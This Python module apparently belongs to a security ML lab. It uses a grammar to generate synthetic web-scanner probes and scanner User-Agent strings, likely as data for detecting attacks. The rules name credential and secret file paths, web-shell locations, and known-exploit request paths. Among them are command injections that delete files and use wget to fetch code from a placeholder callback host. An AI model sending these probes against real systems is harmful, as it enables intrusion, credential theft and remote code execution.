"""Scanner probes (MITRE ATT&CK T1595): paths of forgotten files, consoles, known holes; and scanners' own marks."""

from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS

_RULES: Final = rules(
    r"""
start
    «folder»«secret»
    «folder»«secret»
    «folder»«secret»
    «folder»«backup»
    «folder»«backup»
    «console»
    «console»
    «shell»
    «shell»
    «hole»
    «hole»
    «hole»
    «cgi»
folder:
    / / / / /«part»/ /«part»/ /«part»/«part»/ // /./ /old/ /backup/ /dev/ /test/ /~«label»/
part:
    app api admin public web site src www html core config blog shop v1 v2 new old «label» «label» backend portal
    cms assets
secret:
    .env .env.local .env.production .env.bak .env.«lower:4» .git/config .git/HEAD .git/index .git/logs/HEAD
    .svn/entries .svn/wc.db .hg/store .DS_Store .htpasswd .htaccess .aws/credentials .ssh/id_rsa
    .ssh/authorized_keys .npmrc .dockerenv docker-compose.yml Dockerfile .vscode/sftp.json .idea/workspace.xml
    config.json config.yml config.php.bak configuration.php~ wp-config.php wp-config.php.save web.config
    appsettings.json database.yml secrets.yml credentials.json id_rsa server.key «label».pem composer.lock
    package-lock.json phpinfo.php info.php php.ini test.php debug.log error_log access.log .bash_history
    sftp-config.json .travis.yml .gitlab-ci.yml Jenkinsfile application.properties application.yml settings.py
    local.settings.json firebase.json .terraform/terraform.tfstate terraform.tfvars storage/logs/laravel.log
    .kube/config .netrc .mysql_history
backup:
    backup.zip backup.tar.gz «label».zip «label».sql «label».sql.gz «label».tar.gz www.rar site.7z db.sql dump.sql
    database.sql.zip backup_20«int:15-26».tar.gz db_«int:1-12»_«int:2015-2026».sql «label».bak index.php.bak
    index.php~ index.php.swp .«label».php.swp «label».old config.inc.php.old users.csv export.xlsx mysqldump.sql
    «label»_backup.bak «part».zip «part».tar wwwroot.zip
console
    /phpmyadmin/
    /phpMyAdmin-«int:2-5».«int:0-9».«int:0-9»/index.php
    /pma/index.php?lang=en
    /adminer.php
    /adminer-«int:4-5».«int:0-9».«int:0-9».php
    /administrator/index.php
    /wp-login.php
    /wp-admin/install.php
    /«part»/wp-admin/setup-config.php?step=1
    /xmlrpc.php
    /manager/html
    /host-manager/html
    /jenkins/script
    /script
    /solr/admin/info/system?wt=json
    /actuator/«actuator»
    /«part»/actuator/«actuator»
    /console/login/LoginForm.jsp
    /jmx-console/
    /web-console/ServerInfo.jsp
    /invoker/JMXInvokerServlet
    /server-status?full=«int:1-9»
    /server-info
    /nginx_status
    /debug/default/view?panel=config
    /_profiler/phpinfo
    /telescope/requests
    /horizon/api/stats
    /swagger-ui.html
    /v2/api-docs
    /«part»/swagger/index.html
    /graphiql
    /graphql?query={__schema{types{name}}}
    /api/v1/pods
    /v1.«int:16-43»/containers/json
    /_cat/indices?v
    /_cluster/health
    /druid/index.html
    /nacos/v1/auth/users?pageNo=1&pageSize=«int:1-99»
    /zabbix/
    /grafana/login
    /kibana/app/kibana
    /hudson
    /elmah.axd
    /trace.axd
    /owa/auth/logon.aspx
    /ecp/Current/exporttool/
    /remote/login
    /dana-na/auth/url_default/welcome.cgi
    /vpn/index.html
    /+CSCOE+/logon.html
    /global-protect/login.esp
    /cgi-bin/luci
    /HNAP1/
    /boaform/admin/formLogin
    /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=«plain_command»
    /GponForm/diag_Form?images/
    /sdk
    /evox/about
    /nmaplowercheck«digits:10»
    /crossdomain.xml
    /clientaccesspolicy.xml
actuator:
    env heapdump health mappings beans gateway/routes jolokia trace logfile configprops threaddump
shell:
    /shell.php /c99.php /r57.php /wso.php /cmd.php?cmd=«plain_command» /«lower:5».php?c=«plain_command» /alfa.php
    /b374k.php /uploads/«lower:6».php /wp-content/uploads/«int:2018-2026»/«lower:5».php /images/«lower:4».php
    /«part»/up.php /0x.php /mini.php /wp-content/plugins/«label»/«lower:3».php /.well-known/«lower:4».php
    /wp-includes/«lower:6».php /shell.jsp?cmd=«plain_command» /cmd.aspx /«label».aspx?exec=«plain_command»
    /tmp/«lower:4».php /xmrlpc.php?p= /wp-admin/css/colors/«lower:5».php /fm.php /x.php
hole
    /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    /«part»/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    /index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=«php_call»&vars[1][]=«»
    «plain_command»
    /index.php?option=com_«label»&view=«label»&id=«int:1-999»
    /wp-content/plugins/«label»/readme.txt
    /wp-content/plugins/«label»-«label»/«label».php
    /wp-json/wp/v2/users/«int:1-9»
    /?author=«int:1-20»
    /?rest_route=/wp/v2/users
    /struts2-showcase/index.action
    /«label».action
    /«label».do?method=«lower:4»
    /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax
    /api/jsonws/invoke
    /autodiscover/autodiscover.json?@«label».«tld»/mapi/nspi
    /_ignition/execute-solution
    /mgmt/tm/util/bash
    /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp
    /cgi-bin/.%2e/.%2e/.%2e/bin/sh
    /rest/api/latest/serverInfo
    /pages/createpage-entervariables.action
    /securityRealm/user/admin/descriptorByName/«label»
    /wls-wsat/CoordinatorPortType
    /ws_utc/config.do
    /solr/«label»/dataimport?command=full-import
    /geoserver/web/
    /cacti/graph_view.php
    /zimbra/«label»
    /currentsetting.htm
    /shell?cd+/tmp;rm+-rf+*;wget+http://«callback»/«label»
    /login.cgi?cli=aa%20aa%27;wget%20http://«callback»/«label»
    /picsdesc.xml
    /soap.cgi?service=WANIPConn1
    /ctrlt/DeviceUpgrade_1
    /tmUnblock.cgi
    /stalker_portal/«part»/
    /system_api.php
    /c/version.js
    /streaming/clients_live.php
    /sugar_version.json
    /lib/«part»/ckeditor/samples/
    /fckeditor/editor/filemanager/connectors/test.html
    /kcfinder/upload.php
    /elfinder/php/connector.minimal.php
    /magento_version
    /downloader/index.php
    /rest/V1/guest-carts/«alnum:12»
    /CHANGELOG.txt
    /«part»/CHANGELOG.txt
php_call:
    system phpinfo exec passthru md5
cgi
    /cgi-bin/«label».cgi
    /cgi-bin/test-cgi
    /cgi-bin/printenv
    /cgi-bin/status
    /cgi-bin/«label».sh
    /cgi-sys/defaultwebpage.cgi
    /scripts/..%255c../winnt/system32/cmd.exe?/c+dir
    /iissamples/«label».asp
    /cgi-bin/awstats.pl?configdir=|«plain_command»|
    /cgi-bin/php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input
    /cgi-bin/nph-«label».pl
    /isapi/«label».dll
    /_vti_bin/shtml.dll
    /_vti_pvt/service.pwd
    /cfide/administrator/
"""
)
_GRAMMAR: Final = Grammar({**BLOCKS, **_RULES})

AGENT_RULES: Final = rules(
    r"""
start
    sqlmap/1.«int:4-9».«int:1-12»#stable (https://sqlmap.org)
    Mozilla/5.00 (Nikto/2.«int:1-5».«int:0-9») (Evasions:None) (Test:«digits:6»)
    Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
    gobuster/3.«int:0-6»
    Fuzz Faster U Fool v«int:1-2».«int:0-5».«int:0-9»
    Wfuzz/3.«int:0-1».0
    WPScan v3.8.«int:1-27» (https://wpscan.com/wordpress-security-scanner)
    masscan/1.«int:0-3» (https://github.com/robertdavidgraham/masscan)
    Mozilla/5.0 zgrab/0.x
    Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
    DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
    Mozilla/5.0 (Windows NT 10.0) acunetix/«int:10-24».«int:0-9»
    Arachni/v«int:1-2».«int:0-6».«int:0-3»
    feroxbuster/2.«int:1-11».0
    httpx - Open-source project (github.com/projectdiscovery/httpx)
    w3af.org/«int:1-2».«int:0-9»
    OpenVAS-VT «int:20-23».«int:1-12».«int:0-9»
    commix/v3.«int:1-9»-stable
"""
)
_AGENTS: Final = Grammar({**BLOCKS, **AGENT_RULES})


def agent(rng: Random) -> str:
    """The User-Agent by which a scanner names itself."""
    return _AGENTS.generate(rng)


def payload(rng: Random) -> str:
    """One probe: a request-target (path and query) as a scanner sends it."""
    return _GRAMMAR.generate(rng)
